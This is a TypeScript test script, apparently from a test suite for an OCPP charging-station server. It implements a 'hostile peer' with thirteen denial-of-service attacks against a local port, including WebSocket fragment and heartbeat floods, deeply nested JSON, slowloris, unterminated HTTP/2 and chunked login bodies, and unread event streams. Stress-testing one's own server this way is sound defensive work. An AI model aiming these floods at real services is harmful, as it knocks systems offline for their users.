// A hostile peer, as a process of its own: `attacker.ts <attack> <port> <tls|plain>`; it prints its counts as JSON.
import { frameOf, handshake, RawSocket, type Target } from "../kit/raw_socket.ts";

const MIB = 1_048_576;
const BOOT = JSON.stringify([2, "boot", "BootNotification", {
  chargePointVendor: "V",
  chargePointModel: "M",
}]);
const HEARTBEAT = frameOf(JSON.stringify([2, "x".repeat(250), "Heartbeat", {}]));
const LASTS_MS = 4_000;

/** Counts of what an attack achieved. */
export type Done = Record<string, number>;

const ATTACKS: Record<string, (target: Target, amount: number) => Promise<Done>> = {
  fragments,
  deaf,
  flood,
  deep,
  large,
  h2c,
  slowloris,
  idle,
  bodies,
  announced,
  trickle,
  logins,
  readers,
};

/** Fragments without an end: `amount` MiB in 1 MiB parts, over four connections. */
async function fragments(target: Target, amount: number): Promise<Done> {
  const part = frameOf(new Uint8Array(MIB).fill(120), { fin: false, opcode: 0 });
  const sent = await Promise.all([1, 2, 3, 4].map(async (n) => {
    const connection = await RawSocket.connect(`EVIL-F${n}`, target);
    const gone = connection.ended().then(() => "gone");
    let mib = 0;
    try {
      await connection.write(frameOf("[", { fin: false }));
      for (; mib < amount / 4; mib++) {
        if (await Promise.race([connection.write(part), gone]) === "gone") break;
      }
    } catch { /* ended by the other side */ }
    connection.close();
    return mib;
  }));
  return { mib_taken: sent.reduce((sum, mib) => sum + mib, 0) };
}

/** Asks and never reads: what is answered piles up. */
async function deaf(target: Target): Promise<Done> {
  let ended_by_peer = 0;
  await Promise.all(Array.from({ length: 4 }, async (_, n) => {
    const connection = await RawSocket.connect(`EVIL-D${n}`, target);
    const until = performance.now() + LASTS_MS;
    const timer = setTimeout(() => connection.close(), LASTS_MS);
    try {
      await connection.write(frameOf(BOOT));
      const batch = join(Array.from({ length: 500 }, () => HEARTBEAT));
      while (performance.now() < until) await connection.write(batch);
    } catch {
      if (performance.now() < until - 50) ended_by_peer++;
    }
    clearTimeout(timer);
    connection.close();
  }));
  return { ended_by_peer };
}

/** Heartbeats as fast as they go, answers read. */
async function flood(target: Target): Promise<Done> {
  const batches = await repeat(join(Array.from({ length: 200 }, () => HEARTBEAT)), target);
  return { messages_taken: 200 * batches };
}

/** Messages just below the greatest size that nest as deeply as they can. */
async function deep(target: Target, kib: number): Promise<Done> {
  const message = `[2,"deep","DataTransfer",{"vendorId":"V","data":${"[".repeat(kib * 512)}${
    "]".repeat(kib * 512)
  }}]`;
  return { messages_taken: await repeat(frameOf(message), target) };
}

/** Messages just below the greatest size whose long word looks like the beginning of a URL with a password. */
async function large(target: Target, kib: number): Promise<Done> {
  const message = `[2,"large","DataTransfer",{"vendorId":"V","data":"${"x".repeat(kib * 1024 - 100)}://"}]`;
  return { messages_taken: await repeat(frameOf(message), target) };
}

/** Streams of events and of all messages that nobody reads, while chargers send long messages. */
async function readers(target: Target, amount: number): Promise<Done> {
  const authorization = `Authorization: Basic ${btoa(`admin:${Deno.env.get("OCPP_ADMIN_PASSWORD")}`)}`;
  const request = handshake("/ocpp/events/?messages=*", [authorization]);
  const streams: RawSocket[] = [];
  for (let n = 0; n < amount; n++) {
    const stream = await RawSocket.open(target);
    streams.push(stream);
    await stream.write(request);
    const begin = await stream.read();
    if (!begin.startsWith("HTTP/1.1 200")) throw new Error(`No stream: ${begin.split("\r\n")[0]}`);
  }
  const message = `[2,"long","DataTransfer",{"vendorId":"V","data":"${"x".repeat(60_000)}"}]`;
  const messages_taken = await repeat(frameOf(message), target);
  streams.forEach((stream) => stream.close());
  return { streams: streams.length, messages_taken };
}

/** Sends a batch over four connections again and again, answers read. Returns how often it was taken. */
async function repeat(batch: Uint8Array, target: Target): Promise<number> {
  let sent = 0;
  await Promise.all(Array.from({ length: 4 }, async (_, n) => {
    const connection = await RawSocket.connect(`EVIL-H${n}`, target);
    const reading = connection.ended();
    const timer = setTimeout(() => connection.close(), LASTS_MS);
    try {
      await connection.write(frameOf(BOOT));
      for (;; sent++) await connection.write(batch);
    } catch { /* ended */ }
    clearTimeout(timer);
    connection.close();
    await reading;
  }));
  return sent;
}

/** HTTP/2 without TLS (RFC 9113): a hundred requests on each connection whose bodies never end. */
async function h2c(target: Target, amount: number): Promise<Done> {
  const streams = Array.from({ length: 100 }, (_, n) => 2 * n + 1);
  const opening = join([
    new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    http2Frame(HTTP2.settings, 0),
    ...streams.map((stream) => http2Frame(HTTP2.headers, stream, LOGIN_HEADERS)),
    ...streams.map((stream) => http2Frame(HTTP2.data, stream, new Uint8Array(600).fill(120))),
  ]);
  await holdBodies(target, amount, async (connection) => {
    await connection.write(opening);
    await within(LASTS_MS, connection.ended());
    return 0;
  });
  return { requests: amount * streams.length };
}

/** Types of frames. */
const HTTP2 = { data: 0, headers: 1, settings: 4 };
const END_HEADERS = 4;
/** `:method POST`, `:scheme http`, `:path /login`, `:authority 127.0.0.1`, without Huffman's code (RFC 7541). */
const LOGIN_HEADERS = join([
  Uint8Array.of(0x83, 0x86, 0x04, 6),
  new TextEncoder().encode("/login"),
  Uint8Array.of(0x01, 9),
  new TextEncoder().encode("127.0.0.1"),
]);

function http2Frame(type: number, stream: number, payload: Uint8Array = new Uint8Array(0)): Uint8Array {
  const { length } = payload;
  const flags = type === HTTP2.headers ? END_HEADERS : 0;
  const head = [length >> 16, length >> 8 & 255, length & 255, type, flags, 0, 0, stream >> 8, stream & 255];
  return join([Uint8Array.from(head), payload]);
}

/** Handshakes that never end: silent ones, and headers byte by byte. */
async function slowloris(target: Target, amount: number): Promise<Done> {
  let alive = 0;
  const silent = await Promise.all(
    Array.from({ length: amount / 2 }, () => RawSocket.open({ port: target.port })),
  );
  const slow = await Promise.all(Array.from({ length: amount / 2 }, () => RawSocket.open(target)));
  const all = [...silent, ...slow];
  for (const connection of all) connection.ended().then(() => alive--);
  alive = all.length;
  const text = handshake("/EVIL-S");
  for (let at = 0; at < 70 && alive > 0; at++) {
    await Promise.all(slow.map((connection) => connection.write(text[at]!).catch(() => {})));
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  const left = alive;
  all.forEach((socket) => socket.close());
  return { opened: all.length, left_after_7s: left };
}

/** Bodies of logins without an end, over `amount` connections at once, as fast as they are taken. */
async function bodies(target: Target, amount: number): Promise<Done> {
  const head = "POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n" +
    "Transfer-Encoding: chunked\r\n\r\n";
  const part = new Uint8Array(MIB / 16).fill(120);
  let kib = 0;
  await Promise.all(Array.from({ length: amount }, async () => {
    const connection = await RawSocket.open(target).catch(() => null);
    if (!connection) return;
    const gone = connection.ended();
    const timer = setTimeout(() => connection.close(), LASTS_MS);
    try {
      await connection.write(`${head}3b9aca00\r\n`);
      for (;;) {
        if (await Promise.race([connection.write(part), gone.then(() => "gone")]) === "gone") break;
        kib += 64;
      }
    } catch { /* ended */ }
    clearTimeout(timer);
    connection.close();
  }));
  return { mib_taken: Math.round(kib / 1024) };
}

/** Bodies of a gigabyte by their header, on a route that is open to all, sent as fast as they are taken, then held. */
async function announced(target: Target, amount: number): Promise<Done> {
  const part = new Uint8Array(65_536).fill(120);
  const taken = await holdBodies(target, amount, async (connection) => {
    await connection.write(loginHead(1_000_000_000));
    for (let bytes = 0;; bytes += part.length) {
      if (await within(LASTS_MS, connection.write(part)) === "late") return bytes;
    }
  });
  return { bodies: amount, mb_taken: Math.round(taken / MIB) };
}

/** Bodies that lack their last byte, which never comes. */
async function trickle(target: Target, amount: number): Promise<Done> {
  const taken = await holdBodies(target, amount, async (connection) => {
    await connection.write(loginHead(8_000) + " ".repeat(7_990));
    for (let sent = 0; sent < 9; sent++) {
      await connection.write(" ");
      await new Promise((resolve) => setTimeout(resolve, LASTS_MS / 9));
    }
    return 8_000;
  });
  return { bodies: amount, mb_taken: Math.round(taken / MIB) };
}

/** Whole logins, one after the other on each connection, whose answers are never read. */
async function logins(target: Target, amount: number): Promise<Done> {
  const body = JSON.stringify({ user: "admin", password: "x".repeat(180) }).padEnd(7_000);
  const request = loginHead(body.length) + body;
  const taken = await holdBodies(target, amount, async (connection) => {
    for (let bytes = 0;; bytes += request.length) {
      if (await within(LASTS_MS, connection.write(request)) === "late") return bytes;
    }
  });
  return { bodies: amount, mb_taken: Math.round(taken / MIB) };
}

function loginHead(length: number): string {
  return `POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
}

/** Runs connections at once, each until it is ended by the other side, blocked, or `LASTS_MS` are over; returns a sum. */
async function holdBodies(
  target: Target,
  amount: number,
  send: (connection: RawSocket) => Promise<number>,
): Promise<number> {
  const connections: RawSocket[] = [];
  const end = setTimeout(() => connections.forEach((connection) => connection.close()), 2 * LASTS_MS);
  const taken = await Promise.all(Array.from({ length: amount }, async () => {
    const connection = await RawSocket.open(target).catch(() => null);
    if (!connection) return 0;
    connections.push(connection);
    return await send(connection).catch(() => 0);
  }));
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  clearTimeout(end);
  connections.forEach((connection) => connection.close());
  return taken.reduce((sum, bytes) => sum + bytes, 0);
}

async function within<T>(ms: number, work: Promise<T>): Promise<T | "late"> {
  work.catch(() => {});
  const { promise, resolve } = Promise.withResolvers<"late">();
  const timer = setTimeout(() => resolve("late"), ms);
  return await Promise.race([work, promise]).finally(() => clearTimeout(timer));
}

/** Websockets that do nothing. */
async function idle(target: Target, amount: number): Promise<Done> {
  const sockets: RawSocket[] = [];
  for (let n = 0; n < amount; n += 50) {
    const some = Array.from(
      { length: 50 },
      (_, m) => RawSocket.connect(`EVIL-I${n + m}`, target).catch(() => null),
    );
    sockets.push(...(await Promise.all(some)).filter((connection) => connection !== null));
  }
  await new Promise((resolve) => setTimeout(resolve, 1000));
  sockets.forEach((socket) => socket.close());
  return { opened: sockets.length };
}

function join(parts: Uint8Array[]): Uint8Array {
  const whole = new Uint8Array(parts.reduce((sum, { length }) => sum + length, 0));
  let at = 0;
  for (const part of parts) {
    whole.set(part, at);
    at += part.length;
  }
  return whole;
}

if (import.meta.main) {
  const [attack = "", port, listener, amount, ca] = Deno.args;
  const target = {
    port: Number(port),
    tls: listener === "tls",
    ...(ca ? { ca: await Deno.readTextFile(ca) } : {}),
  };
  console.log(JSON.stringify(await ATTACKS[attack]!(target, Number(amount))));
}
